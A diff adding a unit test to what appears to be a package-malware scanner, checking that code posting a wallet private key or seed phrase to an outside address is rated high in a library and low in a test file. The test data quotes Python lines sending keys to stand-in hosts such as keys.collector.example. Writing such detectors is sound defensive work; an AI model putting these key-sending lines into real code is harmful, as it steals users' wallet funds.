@@ -115,6 +115,21 @@ TEST(Signals, code_fetched_and_run_is_high_and_a_disguised_runner_high_where_ano
       "in look-alike letters that Python reads as x: \U0001D465 reads as x\n");
 }
 
+// A function that posts the key it is given runs only when called: high wherever it lies,
+// low in a test file, as every fact there is (finding_model's places).
+TEST(Signals, a_wallet_key_sent_is_high_in_a_function_of_the_library) {
+  EXPECT_EQ(weighed(fact("key-sent", "private_key", "tronkeep-0.0.1/tronkeep/main.py", 5,
+                         "requests.post('https://keys.collector.example/tron', data)") +
+                    fact("key-sent", "mnemonic", "w-1.0/tests/test_backup.py", 9, "s.get(f'https://vault.example/')") +
+                    kDone),
+            "signals malware_signal MALWARE_SIGNAL high [signals-wallet-key-sent] tronkeep-0.0.1/tronkeep/main.py:5 "
+            "sends a wallet's private key or seed phrase (private_key) to an address written in the package: "
+            "requests.post('https://keys.collector.example/tron', data)\n"
+            "signals malware_signal MALWARE_SIGNAL low [signals-wallet-key-sent] w-1.0/tests/test_backup.py:9 "
+            "sends a wallet's private key or seed phrase (mnemonic) to an address written in the package: "
+            "s.get(f'https://vault.example/')\n");
+}
+
 TEST(Signals, an_autostart_place_is_medium_in_a_library_and_high_in_an_install_hook) {
   EXPECT_EQ(
       weighed(fact("persist", "autostart", "package/lib/launch.js", 4, "library/launchagents") +
